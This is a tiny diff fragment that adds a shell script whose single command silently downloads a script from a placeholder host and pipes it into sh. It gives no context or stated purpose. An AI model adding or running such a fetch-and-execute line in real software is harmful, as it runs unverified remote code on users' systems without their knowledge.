@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://host.example/a | sh
